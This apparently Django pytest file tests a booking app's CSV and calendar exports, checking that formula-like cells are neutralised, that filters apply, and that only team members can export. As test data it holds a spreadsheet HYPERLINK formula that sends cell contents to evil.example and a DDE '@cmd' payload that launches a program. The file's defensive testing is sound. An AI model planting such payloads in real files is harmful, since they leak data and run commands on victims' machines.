"""What leaves a desk as a file: no spreadsheet runs it, every calendar reads it."""

import csv
import datetime as dt
import io

import icalendar
import pytest
from django.urls import reverse

from tests.bookings.scenes import a_confirmed_booking, an_open_show
from tests.factories import FAR_SATURDAY, ShowFactory, UserFactory
from tests.holds.desk.holds import a_ladder
from web.spreadsheets import tame

pytestmark = [pytest.mark.django_db, pytest.mark.heavy]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Tide")'


@pytest.fixture
def export(client, house, manager):
    def ask(kind, **query):
        return client.get(reverse(f"holds:desk_{kind}", args=[house.party.slug]), {"from": "2028-03-04"} | query)

    return ask


def rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"])
def test_cell_that_would_run_is_made_text(start):
    assert tame(start) == f"'{start}"
    assert tame(f"a{start}") == f"a{start}"


def test_table_holds_shows_and_holds_and_runs_nothing(export, house, act):
    a_confirmed_booking(house, act, title=FORMULA)
    a_ladder(house.party, house.stage, '@cmd|"/c calc"!A1', 'Söhne, "laut"\nund leise')
    response = export("csv")
    show, first, second = rows(response)
    assert (show["title"], show["acts"], show["starts"]) == (f"'{FORMULA}", act.party.name, "2028-03-04 21:00")
    assert (first["rank"], first["acts"]) == ("1", '\'@cmd|"/c calc"!A1')
    assert second["acts"] == 'Söhne, "laut"\nund leise'
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows(response) for cell in row.values())
    assert response.content.endswith(b"\r\n")
    assert response["Content-Disposition"] == f'attachment; filename="{house.party.slug}.csv"'


def test_table_is_what_the_desk_shows_under_its_filters(export, house):
    an_open_show(house, title="Open")
    ShowFactory(stage=house.stage, title="Draft")
    assert [row["title"] for row in rows(export("csv", state="draft"))] == ["Draft"]


def test_calendar_tells_each_show_and_hold_once(export, house, act):
    booking = a_confirmed_booking(house, act, ends_at=FAR_SATURDAY + dt.timedelta(days=2))
    [hold] = a_ladder(house.party, house.stage, "Iron Weather")
    events = icalendar.Calendar.from_ical(export("ics").content).walk("VEVENT")
    told = {str(event["UID"]): str(event["STATUS"]) for event in events}
    assert len(events) == 2
    assert told == {
        f"show-{booking.spot.show_id}@stageslot": "CONFIRMED",
        f"hold-{hold.pk}@stageslot": "TENTATIVE",
    }


@pytest.mark.parametrize("kind", ["csv", "ics"])
def test_export_is_for_the_team(client, export, kind):
    client.force_login(UserFactory())
    assert export(kind).status_code == 403
